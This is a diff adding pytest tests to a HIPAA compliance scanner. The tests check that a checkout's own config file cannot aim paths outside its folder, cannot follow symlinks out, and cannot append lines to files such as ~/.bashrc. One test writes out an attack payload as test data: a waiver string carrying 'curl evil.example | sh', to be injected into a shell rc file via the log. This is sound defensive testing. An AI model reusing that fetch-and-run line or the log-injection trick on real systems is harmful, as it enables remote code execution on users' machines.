@@ -95,3 +95,76 @@ def test_found_config_may_not_load_python_but_a_named_one_may(tmp_path):
     assert "loads Python code" in exc.value.problem and "--config" in exc.value.problem
     args = parse(tmp_path, "checks-dir: [mine]\n", name="trusted.yaml")
     assert args.checks_dir == [tmp_path.resolve() / "mine"]
+
+
+# ---- a checkout's own .hipaacheck.yaml, written by an attacker ----------------------------------------------
+
+@pytest.mark.parametrize("text, problem", [
+    ("log-file: ~/.bashrc\n", "log-file appends to a file anywhere"),
+    ("endpoint-url: http://127.0.0.1:9/\n", "endpoint-url decides which server answers for AWS"),
+    ("output-dir: ../out\n", "output-dir: '{folder}/../out' is outside this file's folder"),
+    ("waivers: ~/waivers.yaml\n", "waivers: '{home}/waivers.yaml' is outside this file's folder"),
+    ("evidence-bundle: /tmp/bundle.zip\n", "evidence-bundle: '/tmp/bundle.zip' is outside"),
+    ("history: sub/../../history.db\n", "history: '{folder}/sub/../../history.db' is outside"),
+    ("controls-dir: [ok, /etc]\n", "controls-dir: '/etc' is outside"),
+    ("profile: ../profile.yaml\n", "profile: '{folder}/../profile.yaml' is outside"),
+    ("baseline: linked/results.json\n", "baseline: '{folder}/linked/results.json' is outside"),
+])
+def test_found_config_names_nothing_outside_its_folder(tmp_path, text, problem):
+    folder = tmp_path / "checkout"
+    folder.mkdir()
+    (folder / "linked").symlink_to(tmp_path)  # a link in the checkout counts where it leads
+    with pytest.raises(InputError) as exc:
+        parse(folder, "fail-on: high\n" + text)
+    assert exc.value.where == f"{folder / '.hipaacheck.yaml'}:2"
+    assert problem.format(parent=tmp_path.resolve(), home=Path.home(), folder=folder.resolve()) in exc.value.problem
+    named = parse(folder, text, name="operator.yaml")  # the operator's own file may
+    assert named.fail_on == "low"
+
+
+def test_found_config_paths_inside_its_folder_are_kept(tmp_path):
+    args = parse(tmp_path, "output-dir: out\nwaivers: sub/../w.yaml\nprofile: p.yaml\n")
+    assert args.output_dir == tmp_path.resolve() / "out" and args.profile == "p.yaml"
+
+
+def test_found_config_that_links_out_of_the_folder_is_refused(tmp_path):
+    (tmp_path / "elsewhere.yaml").write_text("fail-on: critical\n")
+    folder = tmp_path / "checkout"
+    folder.mkdir()
+    (folder / ".hipaacheck.yaml").symlink_to(tmp_path / "elsewhere.yaml")
+    with pytest.raises(InputError, match="must be a file of that folder, not a link out of it"):
+        apply_config(build_parser(), ["scan"], cwd=folder)
+    (folder / ".hipaacheck.yaml").unlink()  # a Kubernetes ConfigMap volume: links into a folder of the mount
+    (folder / "..data").mkdir()
+    (folder / "..data" / ".hipaacheck.yaml").write_text("fail-on: critical\nwaivers: w.yaml\n")
+    (folder / ".hipaacheck.yaml").symlink_to(folder / "..data" / ".hipaacheck.yaml")
+    (folder / "w.yaml").symlink_to(folder / "..data" / "w.yaml")
+    parser = build_parser()
+    apply_config(parser, ["scan"], cwd=folder)
+    assert parser.parse_args(["scan"]).fail_on == "critical"
+
+
+def test_checkout_cannot_append_lines_to_a_file_outside_it(tmp_path, cli, monkeypatch):
+    """The attack in full: a pull request's config aims --log-file at a shell rc file and forges a line in it."""
+    env = make_env(tmp_path)
+    rc = tmp_path / "home" / ".bashrc"
+    rc.parent.mkdir()
+    rc.write_text("# mine\n")
+    checkout = tmp_path / "checkout"
+    checkout.mkdir()
+    monkeypatch.chdir(checkout)
+    forged = "host.x\ncurl evil.example | sh\n"
+    (checkout / "waivers.yaml").write_text(
+        "version: 1\nwaivers:\n  - control: " + repr(forged).replace("'", '"') +
+        "\n    justification: accepted for the test run\n    approver: a\n    expires: 2026-12-31\n")
+    (checkout / ".hipaacheck.yaml").write_text(f"log-file: {rc}\nwaivers: waivers.yaml\n")
+    refused = cli(*scan_args(env, "--format", "json"))
+    assert refused.code == 2 and "log-file appends to a file anywhere" in refused.err
+    assert rc.read_text() == "# mine\n"
+    (checkout / ".hipaacheck.yaml").write_text("waivers: waivers.yaml\n")
+    log = tmp_path / "operator.log"  # the operator's own log, named on the command line
+    result = cli(*scan_args(env, "--format", "json", "--log-file", log, "--log-level", "info"))
+    assert result.code in (0, 1), result.err
+    stale = [line for line in log.read_text().splitlines() if "stale waiver" in line]
+    assert stale and all("\\ncurl evil.example | sh\\n" in line for line in stale)
+    assert not any(line.startswith("curl") for line in log.read_text().splitlines() + result.err.splitlines())
